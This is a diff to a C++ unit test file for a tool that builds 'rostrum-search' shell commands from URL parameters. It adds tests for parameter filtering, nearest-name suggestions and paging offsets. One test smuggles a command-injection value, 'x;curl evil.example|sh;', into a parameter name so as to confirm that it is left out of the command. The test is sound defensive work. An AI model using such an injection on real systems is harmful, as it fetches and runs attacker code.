@@ -85,9 +85,42 @@ TEST(UrlRequest, NamesTheParameterThatIsWrong) {
 
 TEST(UrlRequest, TheCommandCanBeTyped) {
   const Url url = read_target("/x?q=it%27s+%24HOME&country=NOR&never=true&any=false&rows=group");
-  EXPECT_EQ(command_of("matrix", url.parameters, {first_of(url.parameters, "q")}),
+  const std::vector<Option> matrix = analysis_parameters(*find_analysis("matrix"));
+  EXPECT_EQ(command_of("matrix", url.parameters, matrix, {first_of(url.parameters, "q")}),
             "rostrum-search matrix --country NOR --never --rows group 'it'\\''s $HOME'");
-  EXPECT_EQ(command_of("trend", {}, {"-mines"}), "rostrum-search trend -- -mines");
+  const std::vector<Option> trend = analysis_parameters(*find_analysis("trend"));
+  EXPECT_EQ(command_of("trend", {}, trend, {"-mines"}), "rostrum-search trend -- -mines");
+  EXPECT_EQ(command_of("trend", {{"also", "-country:NOR"}}, trend, {"mines"}),
+            "rostrum-search trend --also=-country:NOR mines");
+}
+
+TEST(UrlRequest, OnlyKnownParametersGetIntoTheCommand) {
+  const Url url = read_target("/trend?q=mines&x%3Bcurl+evil.example%7Csh%3B=1&rows=group&by=year");
+  EXPECT_EQ(
+      command_of("trend", url.parameters, analysis_parameters(*find_analysis("trend")), {"mines"}),
+      "rostrum-search trend --by year mines");
+}
+
+TEST(UrlRequest, AParameterThatIsNotKnownIsToldWithTheNearest) {
+  const auto told = [](const char* name) {
+    try {
+      (void)read_all_parameters({{name, "1"}}, question_parameters());
+    } catch (const OptionError& error) {
+      return error.name() + "|" + error.what();
+    }
+    return std::string();
+  };
+  EXPECT_EQ(told("contry"),
+            "contry|contry: there is no such parameter here; did you mean 'country'?");
+  EXPECT_NE(told("x;y").find("; one of: "), std::string::npos);
+}
+
+TEST(UrlRequest, ThePageBeforeIsWithinTheHits) {
+  EXPECT_EQ(previous_offset(20, 10, 25), 10U);
+  EXPECT_EQ(previous_offset(5, 10, 25), 0U);
+  EXPECT_EQ(previous_offset(500, 10, 17), 10U);
+  EXPECT_EQ(previous_offset(500, 10, 20), 10U);
+  EXPECT_EQ(previous_offset(500, 10, 0), 0U);
 }
 
 }  // namespace
